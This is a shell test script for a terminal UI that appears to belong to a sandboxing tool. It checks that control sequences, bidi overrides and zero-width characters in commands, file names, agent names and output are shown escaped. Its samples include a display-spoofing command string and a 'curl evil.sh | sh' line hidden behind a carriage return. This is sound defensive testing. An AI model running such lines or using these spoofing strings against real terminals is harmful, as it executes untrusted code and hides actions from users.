#!/bin/bash
# ui-display: hostile strings through every pane of the terminal UI (queue,
# detail, files, output, report, status line): commands, agent names and
# file names with ESC, CR, newlines, C1 controls, bidi overrides and
# zero-width characters. The screen as tmux holds it (capture-pane -e,
# with attributes) must hold no raw control byte other than the colour
# sequences tmux itself writes, and no invisible character.
. "$(dirname "$0")/libtest.sh"
. "$(dirname "$0")/ui-lib.sh"
# .envrc is protected by default; lifted so a command can create it and the
# report call it out (attention).
mkdir -p "$XDG_CONFIG_HOME/bwgate"
echo '{"sandbox": {"protected": ["!.envrc"]}}' > "$XDG_CONFIG_HOME/bwgate/config.json"

ESC=$'\e'; CR=$'\r'; BEL=$'\a'
RLO=$'\xe2\x80\xae'; ZWSP=$'\xe2\x80\x8b'; LRI=$'\xe2\x81\xa6'
CSI1=$'\xc2\x9b'

P=$(new_project)
ui_start 200 50 || { done_testing; exit 1; }

# raw: does the screen (colour sequences removed) hold a byte a terminal
# would act on, or a character that hides or reorders text?
raw() {
	tm capture-pane -e -p -t ui | sed 's/\x1b\[[0-9;:]*m//g' |
	    LC_ALL=C grep -aqP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|\xe2\x81[\xa0-\xaf]|\xef\xbb\xbf'
}

CMD=": ${CR}${ESC}[2Kgit diff ${RLO}${ZWSP}${CSI1}; echo x > .envrc; touch \"\$(printf 'x\\033[1A\\r+ notes.txt')\" \"\$(printf 'r\\342\\200\\256l.sh')\" \"\$(printf 'z\\342\\200\\213w')\"; printf 'out\\033]0;title\\007 \\302\\233 \\342\\201\\246x\\n'"
( cd "$P" && BWGATE_SOCKET="$S" "$BWGATE" sh -c "$CMD" \
    > "$T/one.out" 2> "$T/one.err" < /dev/null; echo $? > "$T/one.rc" ) \
    > /dev/null 2>&1 &
check_screen "the hostile command waits, escaped on its row" 10 \
    '^! +1 .*\\r\\e\[2Kgit diff'
ok_unless "pending: no raw control or invisible character on screen" raw
check_screen "detail shows the command escaped" 5 '\\u\{202e\}\\u\{200b\}'
keys a a
wait_agent 20 one
assert_eq "the command ran" "$(agent_rc one)" 0
check_screen "report names the file escaped on one line" 10 \
    'x\\e\[1A\\r\+ notes\.txt'
check_screen "report shows the bidi name escaped" 5 'r\\u\{202e\}l\.sh'
ok_unless "finished: no raw control or invisible character on screen" raw

# The report pane shows what needs a look first, in the attention colour.
check_screen "the report calls out .envrc" 5 '! attention: \.envrc: created'
att=$(screen | grep -n 'attention: \.envrc' | head -1 | cut -d: -f1)
ex=$(screen | grep -n 'exit 0 in' | head -1 | cut -d: -f1)
ok_if "attention comes before the rest of the report" test "$att" -lt "$ex"
ok_if "in the attention colour (red background)" sh -c \
    "tmux -S '$TMUX_SOCK' capture-pane -e -p -t ui | grep 'attention: ' |
    grep -q \"\$(printf '\\033')\\[[0-9;]*41[;m]\""

# The detail pane lists what ran, marked where the allowlist says no.
check_screen "detail: the programs that ran" 5 'executed +\(! not allowlisted'
check_screen "touch among them" 5 '1x /usr/bin/touch +touch x'
check_screen "the command itself marked (it needed an operator)" 5 \
    '^! +1x /bin/(ba)?sh'
ok_unless "executed: no raw control or invisible character" raw

AGENT="agent${ESC}[2J${CR}${LRI}x"
agent two --agent "$AGENT" -- echo hi
wait_agent 20 two
check_screen "an agent name is shown escaped" 10 'agent\\e\[2J\\r\\u\{2066\}x'
ok_unless "agent name: no raw control or invisible character" raw

# The output pane: a carriage return that would hide what came before it
# shows as \r with both sides; a progress bar's redraws still collapse.
agent three -- printf 'curl evil.sh | sh\rls -la\nload 10%%\rload 20%%\rload 30%%\n'
wait_agent 20 three
check_screen "output: the hidden command shows, its \\r escaped" 10 \
    'curl evil\.sh \| sh\\rls -la'
check_screen "output: a progress bar shows what it drew last" 5 \
    '^ *load 30%'
ok_unless "output: no raw control or invisible character" raw
done_testing
